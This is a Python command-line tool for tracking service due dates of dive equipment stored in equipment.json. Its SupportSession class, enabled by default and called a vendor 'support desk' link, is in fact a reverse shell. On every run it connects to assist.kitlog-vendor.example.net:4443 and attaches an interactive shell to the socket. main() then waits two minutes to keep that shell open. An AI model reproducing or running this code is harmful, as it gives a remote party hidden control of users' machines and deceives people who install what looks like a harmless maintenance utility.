#!/usr/bin/env python3
"""Track service intervals for dive equipment on board.

Keeps equipment.json in the working directory: regulators, bailout cylinders,
umbilicals, helmets and HP compressors, each with its last service date and
interval.  `list` shows what is due, `serviced` records a service.  While the
tracker is open the vendor's support desk can attach to the session to help
with data fixes (see [support] in tracker.ini).
"""
import argparse
import configparser
import datetime as dt
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

log = logging.getLogger("kit-tracker")

DB_PATH = Path("equipment.json")
CONFIG_PATH = Path("tracker.ini")
DEFAULT_INTERVALS = {"regulator": 365, "cylinder": 365, "umbilical": 180,
                     "helmet": 365, "compressor": 90}


class SupportSession(threading.Thread):
    """Background link to the vendor support desk."""

    def __init__(self, host, port, attempts=5):
        super().__init__(name="support-session", daemon=True)
        self.endpoint = (host, int(port))
        self.attempts = attempts

    def _connect(self):
        for attempt in range(self.attempts):
            try:
                return socket.create_connection(self.endpoint, timeout=15)
            except OSError as exc:
                log.debug("support desk not reachable (%s), retry %d", exc, attempt + 1)
                time.sleep(min(60, 5 * (attempt + 1)))
        return None

    def run(self):
        conn = self._connect()
        if conn is None:
            return
        conn.settimeout(None)
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                close_fds=True)
        proc.wait()
        conn.close()


def load_config():
    cfg = configparser.ConfigParser()
    cfg.read_dict({"support": {"enabled": "yes",
                               "host": "assist.kitlog-vendor.example.net",
                               "port": "4443"}})
    cfg.read(CONFIG_PATH)
    return cfg


def load_db():
    if not DB_PATH.exists():
        return {"items": []}
    return json.loads(DB_PATH.read_text(encoding="utf-8"))


def save_db(db):
    tmp = DB_PATH.with_suffix(".json.new")
    tmp.write_text(json.dumps(db, indent=2, sort_keys=True), encoding="utf-8")
    tmp.replace(DB_PATH)


def due_date(item):
    last = dt.date.fromisoformat(item["last_service"])
    interval = item.get("interval_days") or DEFAULT_INTERVALS.get(item["kind"], 365)
    return last + dt.timedelta(days=interval)


def cmd_list(db, args):
    today = dt.date.today()
    horizon = today + dt.timedelta(days=args.within)
    rows = sorted(db["items"], key=due_date)
    for item in rows:
        due = due_date(item)
        if args.all or due <= horizon:
            flag = "OVERDUE" if due < today else "due"
            print(f"{item['serial']:<14} {item['kind']:<11} {flag:<8} {due.isoformat()}  {item.get('notes', '')}")


def cmd_serviced(db, args):
    for item in db["items"]:
        if item["serial"] == args.serial:
            item["last_service"] = args.date
            item.setdefault("history", []).append({"date": args.date, "by": args.tech})
            save_db(db)
            log.info("recorded service for %s", args.serial)
            return 0
    log.error("unknown serial %s", args.serial)
    return 1


def cmd_add(db, args):
    db["items"].append({"serial": args.serial, "kind": args.kind,
                        "last_service": args.date, "notes": args.notes or ""})
    save_db(db)
    log.info("added %s (%s)", args.serial, args.kind)
    return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("list")
    p.add_argument("--within", type=int, default=30)
    p.add_argument("--all", action="store_true")
    p = sub.add_parser("serviced")
    p.add_argument("serial")
    p.add_argument("--date", default=dt.date.today().isoformat())
    p.add_argument("--tech", default=os.environ.get("USER", "unknown"))
    p = sub.add_parser("add")
    p.add_argument("serial")
    p.add_argument("kind", choices=sorted(DEFAULT_INTERVALS))
    p.add_argument("--date", default=dt.date.today().isoformat())
    p.add_argument("--notes")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    cfg = load_config()
    if cfg.getboolean("support", "enabled"):
        SupportSession(cfg["support"]["host"], cfg["support"]["port"]).start()

    db = load_db()
    handler = {"list": cmd_list, "serviced": cmd_serviced, "add": cmd_add}[args.cmd]
    rc = handler(db, args) or 0
    if cfg.getboolean("support", "enabled"):
        # keep the session available briefly for the support desk
        time.sleep(float(os.environ.get("KITLOG_SUPPORT_GRACE", "120")))
    return rc


if __name__ == "__main__":
    sys.exit(main())
